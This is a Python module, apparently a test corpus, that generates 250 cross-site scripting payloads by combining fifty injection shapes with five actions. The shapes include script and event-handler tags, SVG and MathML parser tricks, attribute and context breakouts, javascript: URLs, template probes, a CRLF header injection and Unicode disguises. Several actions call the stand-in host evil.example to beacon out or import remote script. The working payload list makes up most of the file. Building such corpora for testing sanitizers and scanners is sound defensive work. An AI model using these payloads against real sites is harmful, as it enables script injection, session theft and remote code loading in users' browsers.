"""What somebody would write to have a page run it: 250 payloads, every shape of a place to break out of with every deed.

Each deed shows itself: it counts in `window.xss`, opens a dialog, or asks another host for something.
"""

from __future__ import annotations

from itertools import product

ELSEWHERE = "evil.example"
HOOK = "window.xss = 0; window.run = () => { window.xss += 1; };"  # an init script of the page under test
FILLED = "1336777"  # what 1013 * 1319 + 130 makes where a template is filled in
DEEDS = (
    "run()",
    "alert(1)",
    f"fetch('//{ELSEWHERE}/f')",
    f"new Image().src='//{ELSEWHERE}/i'",
    f"import('//{ELSEWHERE}/m.js')",
)
SHAPES = (
    # elements
    "<script>{do}</script>",
    "<script src=//evil.example/s.js></script><script>{do}</script>",
    "<ScRiPt\x0a>{do}</sCrIpT >",
    "<img src=x onerror={do}>",
    '<img src="x" onerror="{do}">',
    "<svg onload={do}>",
    "<svg><script>{do}</script></svg>",
    "<svg><animate onbegin={do} attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg onload={do}>"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror={do}>",
    "<iframe srcdoc='<script>parent.{do}</script>'></iframe>",
    "<iframe src=javascript:{do}></iframe>",
    "<body onload={do}>",
    "<details open ontoggle={do}>",
    "<video><source onerror={do}></video>",
    "<input autofocus onfocus={do}>",
    "<select autofocus onfocus={do}></select>",
    "<marquee onstart={do}>",
    "<object data=javascript:{do}></object>",
    "<embed src=javascript:{do}>",
    '<link rel=stylesheet href="//evil.example/c.css" onload={do}>',
    "<meta http-equiv=refresh content='0;url=javascript:{do}'>",
    '<base href="//evil.example/"><script src=b.js></script><!--{do}-->',
    "<form action=javascript:{do}><button autofocus onfocus={do}>go</button></form>",
    "<template><script>{do}</script></template><noscript><p title='</noscript><img src=x onerror={do}>'>",
    # out of where the text stands
    '"><script>{do}</script>',
    "'><script>{do}</script>",
    '" onmouseover="{do}" autofocus onfocus="{do}" x="',
    "' onmouseover='{do}' autofocus onfocus='{do}' x='",
    "` onfocus=`{do}` autofocus x=`",
    "</title><script>{do}</script>",
    "</textarea><script>{do}</script>",
    "</style><script>{do}</script>",
    "</script><script>{do}</script>",
    "--><script>{do}</script><!--",
    "]]><script>{do}</script>",
    '"}};{do};//',
    "';{do};//",
    "${{{do}}}`-{do}-`",
    "\\u003cscript\\u003e{do}\\u003c/script\\u003e",
    "\u2028{do}\u2029",
    # addresses
    "javascript:{do}",
    "JaVaScRiPt\t:{do}//",
    "&#106;avascript:{do}",
    "data:text/html,<script>{do}</script>",
    "//evil.example/%0d%0aSet-Cookie:x=1/{do}",
    # templates and tricks of letters
    "{{{{1013*1319+130}}}}{{% {do} %}}<%= {do} %>#{{{do}}}",
    "\uff1cscript\uff1e{do}\uff1c/script\uff1e<scr\u200bipt>{do}</scr\u200bipt>",
    "\u202e<img src=x onerror={do}>\u202c",
    "&lt;img src=x onerror={do}&gt;&amp;lt;script&gt;{do}",
)
PAYLOADS = tuple(shape.format(do=deed) for shape, deed in product(SHAPES, DEEDS))


def batches(longest: int, payloads: tuple[str, ...] = PAYLOADS) -> list[list[str]]:
    """The payloads in order, as many together as stand in `longest` characters when they are joined by a space."""
    found: list[list[str]] = [[]]
    for one in payloads:
        if found[-1] and len(" ".join([*found[-1], one])) > longest:
            found.append([])
        found[-1].append(one)
    return found
